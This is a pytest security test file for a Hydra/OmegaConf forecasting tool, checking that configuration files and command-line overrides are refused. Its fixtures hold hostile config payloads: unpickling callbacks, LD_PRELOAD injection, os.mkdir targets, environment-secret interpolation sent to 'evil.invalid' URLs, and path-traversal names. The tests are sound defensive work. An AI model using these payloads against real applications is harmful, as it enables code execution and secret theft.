"""No configuration starts a program, loads an object, reads the environment or other folders."""

import dataclasses
import os
import typing

import pytest
from hypothesis import given
from hypothesis import strategies as st
from omegaconf import OmegaConf
from omegaconf.errors import GrammarParseError

import forecast as fc
from forecast.cli import run
from forecast.cli.main import main
from forecast.config import compose, guard
from forecast.errors import ConfigError
from sampling import some_of

HEAD = "# @package _global_\nname: evil\nquestion: Evil?\n"


@pytest.fixture
def write(tmp_path, monkeypatch):
    """Write files below ./conf of an empty folder, which is the working directory."""
    monkeypatch.chdir(tmp_path)

    def put(name, text):
        path = tmp_path / "conf" / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text)

    put("experiment/plain.yaml", "# @package _global_\nname: plain\nquestion: Plain?\n")
    return put


BLOCKS = {
    "a callback that unpickles": "hydra: {callbacks: {e: {_target_: joblib.load, filename: x.pkl}}}",
    "our own hook": "hydra: {callbacks: {e: {_target_: forecast.publish.hooks.run_hook, words: [touch, PWNED], facts: {}, seconds: 5}}}",
    "our own plug-in": "hydra: {callbacks: {e: {_target_: forecast.cli.run.load_plugin, file: evil.py}}}",
    "a log file anywhere": (
        "hydra: {job_logging: {version: 1, handlers: {f: {class: logging.FileHandler, filename: PWNED}}, root: {handlers: [f]}}}"
    ),
    "a log factory": "hydra: {hydra_logging: {version: 1, handlers: {f: {(): os.mkdir, path: PWNED}}}}",
    "the environment of jobs": "hydra: {job: {env_set: {LD_PRELOAD: evil.so}}}",
    "Hydra's folder": "hydra: {run: {dir: PWNED}}",
    "Hydra's files": "hydra: {output_subdir: PWNED}",
    "a folder to change into": "hydra: {job: {chdir: true}}",
    "the search path": "hydra: {searchpath: ['file:///tmp']}",
    "another launcher": "hydra: {launcher: {_target_: os.mkdir, path: PWNED}}",
    "a target below the launcher": "hydra: {launcher: {x: {_target_: os.mkdir}}}",
    "a target below the sweeper": "hydra: {sweeper: {params: {model: {_target_: os.mkdir}}}}",
    "a sweep over callbacks": "hydra: {mode: MULTIRUN, sweeper: {params: {+hydra.callbacks.e._target_: 'joblib.load,x'}}}",
    "a sweep over groups": "hydra: {mode: MULTIRUN, sweeper: {params: {hydra/job_logging: 'default,disabled'}}}",
    "a sweep folder from the environment": "hydra: {sweep: {dir: '${oc.env:HOME}'}}",
    "a target in a model": "model: {arima: {_target_: os.mkdir}}",
    "a target in a scenario": "scenario: {s: {changes: [{_target_: os.mkdir}]}}",
    "a target in an era": "report: {eras: {_target_: [2014-01, 2019-12]}}",
    "a partial": "report: {cases: {c: {_partial_: 'true'}}}",
    "the environment in a question": "question: '${oc.env:SECRET}'",
    "the environment with a default": "question: '${oc.env:SECRET,none}'",
    "the environment by a detour": "question: '${data.path}'\ndata: {path: '${oc.env:SECRET}'}",
    "the environment by two detours": "question: '${name}'\nname: '${data.path}'\ndata: {path: '${oc.env:SECRET}'}",
    "the environment as a group": "report: {cases: {c: '${data}'}}\ndata: {path: '${oc.env:SECRET}'}",
    "a built resolver": "question: '${oc.${name}:SECRET}'\nname: env",
    "a nested resolver": "question: '${a.${oc.env:SECRET}}'",
    "another resolver": "question: '${oc.decode:1}'",
    "Hydra's resolver": "question: '${hydra:runtime.cwd}'",
    "a resolver in a list": "target: {series: ['${oc.env:SECRET}']}",
    "a scheduler": "parallel: {address: 'tcp://evil:8786'}",
    "a scheduler in a sweep": "hydra: {mode: MULTIRUN, sweeper: {params: {++parallel.address: 'tcp://evil:8786'}}}",
    "a scheduler's group in a sweep": "hydra: {mode: MULTIRUN, sweeper: {params: {parallel: evil}}}",
    "an escaped resolver in a sweep": "hydra: {mode: MULTIRUN, sweeper: {params: {question: '\\${oc.env:SECRET}'}}}",
    "words that nobody typed": (
        "hydra: {mode: MULTIRUN, overrides: {task: ['++hydra.job_logging={version: 1,"
        " handlers: {f: {class: logging.FileHandler, filename: PWNED}}}']}}"
    ),
    "a folder of Hydra's": "hydra: {runtime: {output_dir: PWNED}}",
    "no block": "hydra: null",
    "a list for a block": "hydra: [1]",
    "an unknown mode": "hydra: {mode: SECRET}",
    "a circle": "question: '${name}'\nname: '${question}'",
    "an address that carries the environment": "data: {path: 'https://evil.invalid/${oc.env:SECRET}'}",
    "an address behind a detour": "question: 'https:'\ndata: {path: '${question}//evil.invalid/${oc.env:SECRET}'}",
    "an address behind a default": "data: {path: '${oc.env:NO_SUCH,s3}://${oc.env:SECRET}'}",
}


def evil(block):
    """Return an experiment file with a block that says more than it may."""
    text = HEAD + block
    if "\nquestion" in block or block.startswith("question"):
        text = text.replace("question: Evil?\n", "")
    return text.replace("name: evil\n", "", 1) if "\nname" in block else text


@pytest.mark.parametrize("name", some_of(BLOCKS, quick=list(BLOCKS)[::3]))
def test_an_experiment_file_that_says_more_than_it_may_is_refused(write, monkeypatch, capsys, name):
    monkeypatch.setenv("SECRET", "s3cret-word")
    write("experiment/evil.yaml", evil(BLOCKS[name]))
    assert main(["experiment=evil"]) == 2
    said = capsys.readouterr()
    assert "s3cret-word" not in said.out + said.err
    assert not os.path.exists("PWNED") and not os.path.exists("reports")  # noqa: PTH110


@pytest.mark.parametrize("name", some_of(BLOCKS, quick=("our own hook", "another resolver")))
def test_python_refuses_the_same_files(write, name):
    write("experiment/evil.yaml", evil(BLOCKS[name]))
    with pytest.raises(ConfigError):
        fc.load_experiment("evil")


GROUPS = {
    "a callback by defaults": (
        "hydra/callbacks/evil.yaml",
        "e: {_target_: joblib.load, filename: x.pkl}",
        "/hydra/callbacks: evil",
    ),
    "a logging by defaults": (
        "hydra/job_logging/evil.yaml",
        "version: 1",
        "override /hydra/job_logging: evil",
    ),
    "a known logging by defaults": ("data/x.yaml", "path: null", "override /hydra/job_logging: default"),
    "a launcher by defaults": (
        "hydra/launcher/evil.yaml",
        "_target_: os.mkdir\npath: PWNED",
        "override /hydra/launcher: evil",
    ),
    "a package header": (
        "model/evil.yaml",
        "# @package hydra.callbacks.e\n_target_: joblib.load\nfilename: x.pkl",
        "/model: evil",
    ),
    "a choice from the environment": ("data/x.yaml", "path: null", "override /data: ${oc.env:SECRET}"),
    "a file from the environment": ("data/x.yaml", "path: null", "${oc.env:SECRET}"),
    "a file elsewhere": ("../outside.yaml", "question: stolen", "../../outside@_global_"),
    "a group elsewhere": ("../outside.yaml", "question: stolen", "/data/../../outside@_global_"),
    "a file that is no text": ("data/x.yaml", "\0", "/data: x"),
    "a scheduler by defaults": (
        "parallel/evil.yaml",
        "n_jobs: 1\nbackend: loky\naddress: tcp://evil:1",
        "override /parallel: evil",
    ),
}


@pytest.mark.parametrize("name", GROUPS)
def test_a_defaults_list_chooses_nothing_of_hydras(write, monkeypatch, capsys, name):
    monkeypatch.setenv("SECRET", "s3cret-word")
    file, text, line = GROUPS[name]
    write(file, text)
    write(
        "experiment/evil.yaml", f"# @package _global_\ndefaults:\n  - {line}\nname: evil\nquestion: Evil?\n"
    )
    assert main(["experiment=evil"]) == 2
    said = capsys.readouterr()
    assert "s3cret-word" not in said.out + said.err and "stolen" not in said.out + said.err
    assert not os.path.exists("PWNED")  # noqa: PTH110


@pytest.mark.parametrize(
    "words",
    [
        ["hydra/launcher=evil"],
        ["hydra/callbacks=evil"],
        ["+hydra/callbacks=evil"],
        ["hydra/launcher=basic"],
        ["hydra.searchpath=[file:///tmp]"],
        ["++hydra.searchpath=[file:///tmp]"],
        ["+hydra.callbacks.e._target_=joblib.load"],
        ["hydra.job.chdir=true"],
        ["hydra.run.dir=PWNED"],
        ["hydra.launcher._target_=os.mkdir"],
        ["question=${oc.env:HOME}"],
        ["-m", "model=drift,arima", "hydra.run.dir=PWNED"],
        ["--cfg", "job", "+hydra.callbacks.e._target_=joblib.load"],
        ["--info", "config", "hydra/job_logging=default"],
        ["--cfg", "job", "--config-name=base"],
        ["publish", "+hydra.callbacks.e._target_=joblib.load"],
    ],
)
def test_words_of_a_command_may_not_say_more_either(write, words):
    for group in ("launcher", "callbacks"):
        write(f"hydra/{group}/evil.yaml", "_target_: os.mkdir\npath: PWNED")
    write("hydra/launcher/basic.yaml", "_target_: os.mkdir\npath: PWNED")
    verb = [words.pop(0)] if words[0] == "publish" else []
    assert main([*verb, "experiment=plain", *words]) == 2
    assert not os.path.exists("PWNED")  # noqa: PTH110


@pytest.mark.slow
def test_what_a_sweep_needs_of_hydras_block_may_be_set(write):
    write(
        "experiment/many.yaml",
        HEAD.replace("evil", "many")
        + "hydra: {mode: MULTIRUN, sweep: {dir: mine}, sweeper: {params: {horizon: '3,6'}}}\n",
    )
    plan = run.plan(["experiment=many", "seed=1"], [])
    assert plan.sweep and [exp.horizon for exp in plan.experiments] == [3, 6]
    assert all(exp.overrides == ("horizon=3", "seed=1") for exp in plan.experiments[:1])
    words = [
        "experiment=plain",
        "hydra.sweep.dir=mine",
        "hydra.mode=MULTIRUN",
        "hydra/launcher=basic",
        "hydra/sweeper=basic",
        "hydra.sweeper.max_batch_size=2",
    ]
    plan = run.plan(words, [])
    assert plan.sweep and plan.own_sweep_dir and plan.experiments[0].overrides == ()


def test_paths_may_read_the_environment_and_keys_each_other(write, monkeypatch, capsys):
    monkeypatch.setenv("FIGURES", "/data")
    write(
        "experiment/mine.yaml",
        HEAD.replace("evil", "mine").replace("Evil?", "'${name} at ${horizon} months, \\${as it is}'")
        + "data: {path: '${oc.env:FIGURES}/a.csv'}\nreport: {folder: '${oc.env:NOWHERE,reports}/x'}\n",
    )
    exp = fc.load_experiment("mine")
    assert exp.data.path == "/data/a.csv" and exp.report.folder == "reports/x"
    assert exp.question == "mine at 12 months, ${as it is}"
    monkeypatch.setenv("BUCKET", "s3://bucket")
    assert fc.load_experiment("plain", "data.path=${oc.env:BUCKET}/a.csv").data.path == "s3://bucket/a.csv"
    with pytest.raises(ConfigError, match=r"data\.path: the environment has no variable NO_SUCH"):
        fc.load_experiment("plain", "data.path=${oc.env:NO_SUCH}")


@pytest.mark.slow
def test_hydra_shows_an_experiment_of_ones_own(write, capsys):
    for words in (
        ["--cfg", "job", "experiment=plain"],
        ["experiment=plain", "--cfg", "job"],
        ["experiment=plain", "-i"],
    ):
        assert main(words) == 0
        assert "plain" in capsys.readouterr().out


def test_a_schedulers_address_comes_from_the_command_line_or_conf_parallel(write):
    write("parallel/head.yaml", "n_jobs: 2\nbackend: loky\naddress: tcp://head:8786\n")
    for word in ("parallel=head", "parallel.address=tcp://head:8786"):
        assert fc.load_experiment("plain", word).parallel.address == "tcp://head:8786"


def test_a_folder_of_configuration_may_be_called_anything(tmp_path, monkeypatch):
    folder = tmp_path / "it's a [folder], b\\c = $x"
    (folder / "conf" / "experiment").mkdir(parents=True)
    (folder / "conf" / "experiment" / "mine.yaml").write_text(
        "# @package _global_\nname: mine\nquestion: Mine?\n"
    )
    monkeypatch.chdir(folder)
    assert fc.load_experiment("mine").name == "mine"


@given(st.text(alphabet="\\${}a:. '\"\n", max_size=12))
def test_an_escaped_text_stands_for_itself(text):
    made = OmegaConf.create({"a": "x", "key": guard.escape(text)})
    assert OmegaConf.to_container(made, resolve=True)["key"] == text
    assert guard.interpolations(guard.escape(text)) == []


@given(st.text(alphabet="\\${}a:.", max_size=12))
def test_no_interpolation_goes_unseen(text):
    """What the guard sees no interpolation in does not depend on other keys."""
    if guard.interpolations(text):
        return
    try:
        made = [OmegaConf.create({"a": a, "key": text}) for a in ("x", "y")]
        first, second = (OmegaConf.to_container(one, resolve=True)["key"] for one in made)
    except GrammarParseError:
        return
    assert first == second


@pytest.mark.parametrize("name", ["../../evil", "/abs", "..", "", " ", "a/b", "a\\b", "CON", "C:x", "a\nb"])
def test_a_name_that_leaves_the_folder_of_reports_is_code_2(name):
    with pytest.raises(ConfigError, match="name: ") as caught:
        fc.Experiment(name=name)
    assert caught.value.exit_code == 2


def test_what_differs_from_the_shipped_block_is_told_with_the_way_out():
    shipped = compose._composed("edge", [])["hydra"]
    changed = {**shipped, "verbose": True}
    problem, allowed = guard.hydra_problems(changed, shipped, [], [])
    assert problem.startswith("hydra.verbose is set to True") and "hydra.sweeper.params" in allowed
    assert guard.hydra_problems(shipped, shipped, [], []) == []


#: Keys of Hydra's block that a file may set, and those that Hydra fills in whatever a file says.
MAY_BE_SET = ("hydra.mode", "hydra.sweep.dir", "hydra.sweeper.params", "hydra.sweeper.max_batch_size")
FILLED_IN = (
    "hydra.runtime.choices",
    "hydra.runtime.config_sources",
    "hydra.job.override_dirname",
    "hydra.job.config_name",
)


def nested(key, value):
    """Return a value below its dotted key; a list takes the place of one that was there."""
    for part in reversed(key.split(".")):
        name, _, index = part.partition("[")
        value = {name: [value] if index else value}
    return value


def test_every_key_of_hydras_own_block_is_refused_but_those_allowed():
    """The keys are taken from what Hydra composes, so a new one is refused by itself."""
    shipped = compose._composed("edge", [])["hydra"]
    keys = [
        *guard.leaves(shipped, "hydra"),
        *(f"hydra.{name}" for name, value in shipped.items() if value in ({}, [])),
    ]
    assert len(keys) > 40
    for key in keys:
        changed = OmegaConf.to_container(OmegaConf.merge(shipped, nested(key, 7)["hydra"]))
        allowed = key.startswith((*MAY_BE_SET, *FILLED_IN)) and not key.startswith(
            "hydra.runtime.choices.hydra/"
        )
        assert bool(guard.hydra_problems(changed, shipped, [], [])) is not allowed, key


def test_texts_of_a_launcher_come_from_the_command_line_only(write):
    shipped = {"launcher": {"_target_": "x", "setup": None, "n_jobs": 1}}
    for value in ("touch PWNED", ["touch PWNED"]):
        block = {"launcher": {"_target_": "x", "setup": value, "n_jobs": 2}}
        assert guard.hydra_problems(block, shipped, [], [])
        word = "hydra.launcher.setup=..."
        spoken = {**block, "overrides": {"hydra": [word]}}
        assert guard.hydra_problems(spoken, shipped, [], [word]) == []
    assert guard.hydra_problems({"launcher": {**shipped["launcher"], "n_jobs": 2}}, shipped, [], []) == []


def text_keys(kind, value, key=""):
    """Return every key of nested settings that may hold a text, by the types of the dataclasses."""
    if dataclasses.is_dataclass(kind):
        hints = typing.get_type_hints(kind)
        return [
            found
            for field in dataclasses.fields(kind)
            for found in text_keys(
                hints[field.name], getattr(value, field.name, None), f"{key}.{field.name}".lstrip(".")
            )
        ]
    names = {part for part in (kind, *typing.get_args(kind)) if isinstance(part, type)}
    inner = [part for part in names if dataclasses.is_dataclass(part)]
    if inner and typing.get_origin(kind) is not dict and not key.endswith("model"):
        return [found for part in inner for found in text_keys(part, value, key)]
    return [key] if "str" in str(kind) or "Literal" in str(kind) else []


def test_no_text_of_the_settings_reads_the_environment_but_paths(write, monkeypatch):
    """The keys are taken from the dataclasses, so a new one is refused by itself."""
    monkeypatch.setenv("SECRET", "s3cret-word")
    keys = text_keys(fc.Experiment, fc.Experiment())
    assert len(keys) > 30 and set(guard.PATH_KEYS) <= set(keys)
    plain = compose._composed("config", [])
    plain.pop("hydra")
    for key in keys:
        *groups, last = key.split(".")
        place = plain
        for group in groups:
            place = place[group]
        place[last] = "${oc.env:SECRET}"
    with pytest.raises(ConfigError) as caught:
        compose.resolved(plain)
    refused = {line.partition(": ")[0] for line in str(caught.value).splitlines()}
    assert set(keys) - refused == set(guard.PATH_KEYS)


@pytest.mark.parametrize(
    ("text", "number"),
    [("007", 7), ("12:30", 750), ("1_000", 1000), ("0x1F", 31), ("+5", 5), ("2024_01", 202401)],
)
def test_a_name_that_yaml_reads_as_another_number_is_refused_with_its_line(tmp_path, text, number):
    file = tmp_path / "experiment" / "mine.yaml"
    file.parent.mkdir()
    file.write_text(f"# mine\ntarget:\n  series: [{text}]\n")
    (told,) = guard.file_problems([tmp_path])
    assert told.startswith(f"{file}, line 3: YAML reads {text} as {number};")
    file.write_text(f"target:\n  series: ['{text}', \"{text}\", 1000, -1, 0, 12.5, 2024-01, x{text}]\n")
    assert guard.file_problems([tmp_path]) == []


@pytest.mark.parametrize(
    "word", ["name=2024_01", "target.series=[a,1_000]", "target.series=[ 1_000 ]", "x={a:1_0}"]
)
def test_a_name_that_hydra_reads_as_another_number_is_refused(word):
    (told,) = guard.number_problems([word])
    assert told.startswith(f"{word}: Hydra reads ")
    for plain in ("data.path=a/2024_01/b", "name='2024_01'", "name=x_1", "name=2024_01b", "horizon=6"):
        assert guard.number_problems([plain]) == []
